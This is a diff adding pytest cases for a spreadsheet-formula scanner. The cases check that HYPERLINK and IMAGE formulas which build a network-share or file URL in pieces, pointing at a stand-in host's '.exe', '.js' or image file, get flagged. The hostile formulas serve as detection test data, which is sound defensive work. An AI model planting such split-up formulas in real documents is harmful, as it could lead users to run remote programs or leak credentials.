@@ -52,3 +52,13 @@ def test_formulas_beside_cells(element: str) -> None:
 ])
 def test_feeds_of_other_machines(formula: str, held: bool) -> None:
     assert bool(list(calls(sheet(formula)))) is held
+
+
+@pytest.mark.parametrize(("formula", "code"), [
+    ("HYPERLINK(&quot;\\\\&quot;&amp;&quot;h.example&quot;&amp;&quot;\\s\\a.exe&quot;,&quot;x&quot;)", "DOC-LINK-PROGRAM"),
+    ("HYPERLINK(CONCATENATE(&quot;\\\\h.example\\s\\&quot;,&quot;a.js&quot;),&quot;x&quot;)", "DOC-LINK-PROGRAM"),
+    ("IMAGE(&quot;file:&quot; &amp; &quot;//h.example/a.png&quot;)", "DOC-EXTERNAL-SHARE"),
+    ("HYPERLINK(&quot;https://h.example/?id=&quot;&amp;A2)", ""), ("HYPERLINK(CONCATENATE(A1,B1))", ""),
+])
+def test_addresses_in_pieces(formula: str, code: str) -> None:
+    assert [o.code for o in calls(sheet(formula))] == ([code] if code else [])
